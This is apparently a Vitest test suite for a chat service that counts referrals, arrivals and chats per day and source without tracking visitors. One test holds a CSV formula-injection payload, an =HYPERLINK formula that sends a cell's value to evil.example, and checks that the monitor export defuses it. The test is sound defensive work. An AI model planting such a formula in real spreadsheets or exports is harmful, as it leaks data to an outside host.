// Visibility measured without tracking: an administrator keeps a list of referral tokens
// (audited); the start page opened with ?via= and every chat started are counted per Amsterdam
// day and source, never per visitor or chat; partners read a public live status that sets no
// cookie and that any origin may read.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { connected, request, startTestServer, type TestServer } from '../../testing/testServer.js';
import { callApi } from '../../testing/httpCalls.js';
import { TestClock } from '../../testing/testClock.js';
import { unwrap } from '../../testing/chatScenario.js';
import { decodeQrPath } from '../../testing/decodeQr.js';
import type { Ack } from '../../../protocol/ack.js';
import { parseCsv } from '../../../domain/codebook/csvRfc4180.js';

describe.each(['sqlite', 'postgres'] as const)('visibility on %s', (dialect) => {
  let server: TestServer;
  let clock: TestClock;
  beforeEach(async () => {
    // 3 December 2026, 12:00 in Amsterdam.
    clock = new TestClock(Date.UTC(2026, 11, 3, 11));
    server = await startTestServer({ dialect, clock });
  });
  afterEach(async () => {
    await server.close();
  });

  const signedIn = async (role: 'admin' | 'researcher' | 'supervisor' | 'counsellor') => {
    const account = await server.createStaff(role);
    return { ...(await server.login(account.username, account.password)), id: account.id };
  };
  const startChat = async (extra: Record<string, unknown>) => {
    const socket = server.visitor();
    await connected(socket);
    unwrap(await request<Ack<unknown>>(socket, 'chat:start', { language: 'nl', ...extra }));
    socket.disconnect();
  };
  const counts = async () =>
    (await server.app.ctx.repos.store.db.selectFrom('visibility_counts').selectAll().orderBy('day').orderBy('source').orderBy('counter').execute()).map((r) => ({ ...r, count: Number(r.count) }));

  it('lets an administrator keep the list of tokens, each change audited, and nobody else', async () => {
    const admin = await signedIn('admin');
    const created = await callApi(server, admin, 'POST', '/api/referrals', { token: ' School-West ', label: 'School West', kind: 'partner' });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ token: 'school-west', label: 'School West', kind: 'partner' });
    expect((await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-west', label: 'Again', kind: 'poster' })).status).toBe(409);
    for (const token of ['has space', 'unknown', 'direct', '<b>', 'x'.repeat(33)]) {
      expect((await callApi(server, admin, 'POST', '/api/referrals', { token, label: 'Bad', kind: 'poster' })).status).toBe(400);
    }
    expect((await callApi(server, admin, 'GET', '/api/referrals')).body.referrals.map((r: { token: string }) => r.token)).toEqual(['school-west']);

    const researcher = await signedIn('researcher');
    expect((await callApi(server, researcher, 'POST', '/api/referrals', { token: 'sneaky', label: 'Sneaky', kind: 'poster' })).status).toBe(403);
    expect((await callApi(server, researcher, 'DELETE', '/api/referrals/school-west')).status).toBe(403);
    expect((await callApi(server, null, 'GET', '/api/referrals')).status).toBe(401);

    expect((await callApi(server, admin, 'DELETE', '/api/referrals/school-west')).status).toBe(204);
    expect((await callApi(server, admin, 'DELETE', '/api/referrals/school-west')).status).toBe(404);
    const log = await server.app.ctx.repos.audit.list({ staffId: admin.id });
    expect(log.filter((e) => e.action.startsWith('referral.')).map((e) => [e.action, e.target_id])).toEqual(
      expect.arrayContaining([
        ['referral.create', 'school-west'],
        ['referral.remove', 'school-west'],
      ]),
    );
    expect(log.filter((e) => e.action.startsWith('referral.'))).toHaveLength(2);
  });

  it('counts arrivals and chats per day and source; an unknown token as "unknown", no token as "direct"', async () => {
    const admin = await signedIn('admin');
    await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-west', label: 'School West', kind: 'partner' });
    for (const via of ['school-west', 'SCHOOL-WEST', 'gone-poster', '<script>']) {
      expect((await callApi(server, null, 'POST', '/api/visibility/arrivals', { via })).status).toBe(204);
    }
    await startChat({ via: 'school-west', howFound: 'poster' });
    await startChat({});
    // The next Amsterdam day starts at 23:00 UTC in winter.
    clock.t = Date.UTC(2026, 11, 3, 23, 0);
    await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'school-west' });
    await startChat({ via: 'school-west' });

    expect(await counts()).toEqual([
      { day: '2026-12-03', source: 'direct', counter: 'chat', count: 1 },
      { day: '2026-12-03', source: 'school-west', counter: 'arrival', count: 2 },
      // The question was not asked (off by default): her answer is not counted.
      { day: '2026-12-03', source: 'school-west', counter: 'chat', count: 1 },
      { day: '2026-12-03', source: 'unknown', counter: 'arrival', count: 2 },
      { day: '2026-12-04', source: 'school-west', counter: 'arrival', count: 1 },
      { day: '2026-12-04', source: 'school-west', counter: 'chat', count: 1 },
    ]);

    // Twelve hours on, her session has ended: she signs in again.
    const adminAgain = await signedIn('admin');
    expect((await callApi(server, adminAgain, 'PUT', '/api/settings', { askHowFound: true })).status).toBe(200);
    expect((await callApi(server, null, 'GET', '/api/service')).body.askHowFound).toBe(true);
    await startChat({ via: 'school-west', howFound: 'poster' });
    expect((await counts()).filter((c) => c.day === '2026-12-04')).toContainEqual({ day: '2026-12-04', source: 'school-west', counter: 'found:poster', count: 1 });

    // Totals per source over the days asked for, labelled from the token list.
    expect(await server.app.ctx.app.visibility.totals('2026-12-01', '2026-12-31')).toEqual([
      { source: 'school-west', label: 'School West', arrivals: 3, chats: 3, howFound: { poster: 1 } },
      { source: 'unknown', label: null, arrivals: 2, chats: 0, howFound: {} },
      { source: 'direct', label: null, arrivals: 0, chats: 1, howFound: {} },
    ]);
    // The reports area gets them protected like the monitor: these counts are all small.
    const researcher = await signedIn('researcher');
    const report = await callApi(server, researcher, 'GET', '/api/reports/visibility?from=2026-12-01&to=2026-12-31');
    expect(report.status).toBe(200);
    const [bySource, howFound] = report.body.tables;
    expect(bySource.rows.map((r: { key: string }) => r.key)).toEqual(['school-west', 'unknown', 'direct', 'total']);
    expect(bySource.cells.flat().map((c: { display: string }) => c.display)).not.toContain('3');
    expect(bySource.cells[2][0].display).toBe('0');
    expect(howFound.id).toBe('visibility_how_found');
    expect(report.body.note.en).toMatch(/not given per source/);
    expect((await callApi(server, researcher, 'GET', '/api/reports/visibility?from=2026-12-05&to=2026-12-31')).body.tables).toEqual([]);
    // The yearly monitor has the same tables for the year.
    const monitor = await callApi(server, researcher, 'GET', '/api/reports/monitor?year=2026');
    expect(monitor.body.tables.map((t: { id: string }) => t.id)).toEqual(expect.arrayContaining(['visibility_sources', 'visibility_how_found']));
    expect((await callApi(server, researcher, 'GET', '/api/reports/visibility?from=2026-12-31&to=2026-12-01')).status).toBe(400);
    const counsellor = await signedIn('counsellor');
    expect((await callApi(server, counsellor, 'GET', '/api/reports/visibility?from=2026-12-01&to=2026-12-31')).status).toBe(403);
    expect((await server.app.ctx.repos.audit.list({ action: 'report.view', staffId: researcher.id })).length).toBe(3);
  });

  it("attack: a token's label cannot put a formula into the researcher's monitor spreadsheet", async () => {
    const admin = await signedIn('admin');
    const label = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
    expect((await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-oost', label, kind: 'partner' })).status).toBe(201);
    await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'school-oost' });
    const researcher = await signedIn('researcher');
    const csv = await callApi(server, researcher, 'GET', '/api/reports/monitor.csv?year=2026');
    expect(csv.status).toBe(200);
    const { records, issues } = parseCsv(csv.body as string);
    expect(issues).toEqual([]);
    const cells = records.flat();
    expect(cells).toContain(`'${label} (school-oost)`);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  it('lets one address add only a burst of arrivals, answering the same, so nobody inflates a partner’s figures', async () => {
    for (let i = 0; i < 40; i += 1) expect((await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'gone-poster' })).status).toBe(204);
    expect(await counts()).toEqual([{ day: '2026-12-03', source: 'unknown', counter: 'arrival', count: 30 }]);
    clock.t += 60 * 60_000; // an hour later, another burst at most
    for (let i = 0; i < 40; i += 1) await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'gone-poster' });
    expect((await counts())[0]!.count).toBe(60);
    expect((await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'x'.repeat(1000) })).status).toBe(400);
  });

  it('keeps no row per visitor: the counts table has no conversation id, and no chat holds its source', async () => {
    const admin = await signedIn('admin');
    await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-west', label: 'School West', kind: 'partner' });
    await startChat({ via: 'school-west' });
    await startChat({ via: 'school-west' });
    const db = server.app.ctx.repos.store.db;
    // The table as the database itself describes it: day, source, counter, count and nothing else.
    const table = (await db.introspection.getTables()).find((t) => t.name === 'visibility_counts')!;
    expect(table.columns.map((c) => c.name).sort()).toEqual(['count', 'counter', 'day', 'source']);
    const rows = await db.selectFrom('visibility_counts').selectAll().execute();
    // Two chats are one row: a count, not a record of each.
    expect(rows).toHaveLength(1);
    expect(Object.keys(rows[0]!).sort()).toEqual(['count', 'counter', 'day', 'source']);
    const conversations = await db.selectFrom('conversations').selectAll().execute();
    expect(conversations).toHaveLength(2);
    for (const row of conversations) {
      expect(Object.keys(row).some((column) => /^via$|source|referral/i.test(column))).toBe(false);
      expect(JSON.stringify(row)).not.toContain('school-west');
    }
    const events = await db.selectFrom('conversation_events').selectAll().execute();
    expect(JSON.stringify(events)).not.toContain('school-west');
    const audit = await db.selectFrom('audit_log').selectAll().where('action', 'not like', 'referral.%').execute();
    expect(JSON.stringify(audit)).not.toContain('school-west');
  });

  it('gives partners a public status without a cookie, readable from any origin, briefly cacheable', async () => {
    const answer = await callApi(server, null, 'GET', '/api/status', undefined, { origin: 'https://partner.example' });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('set-cookie')).toBeNull();
    expect(answer.headers.get('access-control-allow-origin')).toBe('*');
    expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
    expect(answer.headers.get('cache-control')).toBe('public, max-age=30');
    // Open, but nobody on duty yet: she would wait, for how long nobody can say.
    expect(answer.body).toEqual({ state: 'busy', wait: null });

    const counsellor = await signedIn('counsellor');
    const socket = server.staff(counsellor.cookie);
    await connected(socket);
    unwrap(await request<Ack<unknown>>(socket, 'status:set', { status: 'available' }));
    clock.t += 6_000; // past the few seconds the queue's side is reused
    expect((await callApi(server, null, 'GET', '/api/status')).body).toEqual({ state: 'open' });

    const supervisor = await signedIn('supervisor');
    expect((await callApi(server, supervisor, 'PATCH', '/api/service', { busy: true })).status).toBe(200);
    expect((await callApi(server, null, 'GET', '/api/status')).body).toEqual({ state: 'busy', wait: null });
    // Closed by hand shows at once, with no next opening known.
    expect((await callApi(server, supervisor, 'PATCH', '/api/service', { availability: 'closed' })).status).toBe(200);
    expect((await callApi(server, null, 'GET', '/api/status')).body).toEqual({ state: 'closed', nextOpensAt: null });

    // Following the opening hours: closed at 12:00 on Thursday, opening at 19:00.
    const admin = await signedIn('admin');
    await callApi(server, admin, 'PUT', '/api/settings', { availability: 'auto', openingHours: { timeZone: 'Europe/Amsterdam', weekly: [{ day: 'thu', start: '19:00', end: '23:00' }], exceptions: [] } });
    expect((await callApi(server, null, 'GET', '/api/status')).body).toEqual({ state: 'closed', nextOpensAt: Date.UTC(2026, 11, 3, 18) });
    // Other answers keep no-store.
    expect((await callApi(server, null, 'GET', '/api/service')).headers.get('cache-control')).toBe('no-store');
  });

  it('draws a poster for a token: the link with ?via= in a QR code that reads back', async () => {
    const admin = await signedIn('admin');
    await callApi(server, admin, 'PUT', '/api/settings', { serviceName: 'Fier Chat' });
    await callApi(server, admin, 'POST', '/api/referrals', { token: 'poster-station', label: 'Station poster', kind: 'poster' });
    const poster = await callApi(server, admin, 'GET', '/api/referrals/poster-station/poster');
    expect(poster.status).toBe(200);
    expect(poster.body).toMatchObject({ token: 'poster-station', label: 'Station poster', serviceName: 'Fier Chat', link: `${server.url}/?via=poster-station` });
    expect(decodeQrPath(poster.body.qr)).toBe(poster.body.link);
    expect((await callApi(server, admin, 'GET', '/api/referrals/nope/poster')).status).toBe(404);
    const researcher = await signedIn('researcher');
    expect((await callApi(server, researcher, 'GET', '/api/referrals/poster-station/poster')).status).toBe(403);
  });
});
